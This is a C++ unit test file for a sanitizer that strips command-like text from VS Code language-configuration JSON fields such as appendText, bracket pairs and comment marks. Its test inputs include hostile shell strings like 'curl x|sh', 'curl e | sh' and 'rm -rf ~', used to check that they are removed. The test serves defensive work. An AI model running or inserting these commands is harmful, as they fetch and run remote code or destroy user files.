#include "vscode/typed_text.h"

#include <gtest/gtest.h>

#include <string>

namespace bulkhead {
namespace {

using Json = nlohmann::ordered_json;

TEST(TypedText, WhatLanguagesHaveIsAMark) {
  for (const char* mark : {"", "{", "\"\"\"", " * ", " */", "<!--", "--[[", "end", "REM ", "@rem",
                           "{% comment %}", "{% endcomment %}", "\\begin{", "\t", "/// ", "%>"})
    EXPECT_TRUE(is_typed_mark(mark)) << mark;
}

TEST(TypedText, WhatSaysWhatToDoIsNone) {
  for (const char* text : {"curl x|sh", "rm -rf ~", "\"command\": \"x\"", "end\n", "a\r", "a b",
                           "sh<x", "evil.sh", "12345678901234567890x"})
    EXPECT_FALSE(is_typed_mark(text)) << text;
}

TEST(TypedText, OnlyWhatTypesIsLookedAt) {
  const Json plain = Json::parse(R"([7, "shellscript", {
    "wordPattern": {"pattern": "a b|c d", "flags": ""},
    "indentationRules": {"increaseIndentPattern": {"pattern": "if x; then y"}},
    "comments": {"lineComment": {"comment": "#", "noIndent": true}, "blockComment": ["<!--", "-->"]},
    "brackets": [["{", "}"], ["do", "done"]],
    "autoClosingPairs": [{"open": "\"", "close": "\"", "notIn": ["string", "comment"]}],
    "onEnterRules": [{"beforeText": {"pattern": "a b c"}, "afterText": {"pattern": "d e f"},
      "previousLineText": {"pattern": "g h"}, "action": {"indent": 1, "appendText": " * ", "removeText": 2}}]}])");
  Json value = plain;
  EXPECT_EQ(strip_typed(value), 0U);
  EXPECT_EQ(value, plain);
}

TEST(TypedText, TheRestStays) {
  const std::string evil = R"("curl e | sh")";
  for (
      const std::string typed :
      {R"({"onEnterRules": [{"beforeText": {"pattern": "x"}, "action": {"appendText": EVIL}}, {"action": 1}]})",
       R"({"onEnterRules": [{"action": {"appendText": [EVIL]}}, {"action": {"indent": 1}}]})",
       R"j({"autoClosingPairs": [{"open": "a", "close": EVIL}, {"open": "(", "close": ")"}]})j",
       R"j({"surroundingPairs": [["a", EVIL], ["(", ")"]]})j",
       R"j({"brackets": [["a", EVIL], ["(", ")"]]})j",
       R"j({"comments": {"lineComment": EVIL, "blockComment": ["(", ")"]}})j",
       R"({"__electricCharacterSupport": {"docComment": {"open": "/*", "close": EVIL}, "x": 1}})",
       R"({"__characterPairSupport": {"autoClosingPairs": [{"close": EVIL}], "x": 1}})",
       R"({"onEnterRules": EVIL})"}) {
    std::string text = typed;
    Json value = Json::parse(text.replace(text.find("EVIL"), 4, evil));
    const std::string key = value.begin().key();
    EXPECT_EQ(strip_typed(value), 1U) << typed;
    EXPECT_EQ(value.dump().find("curl"), std::string::npos) << typed;
    EXPECT_EQ(value[key].size(), value[key].is_null() ? 0U : 1U) << typed;
  }
}

}  // namespace
}  // namespace bulkhead
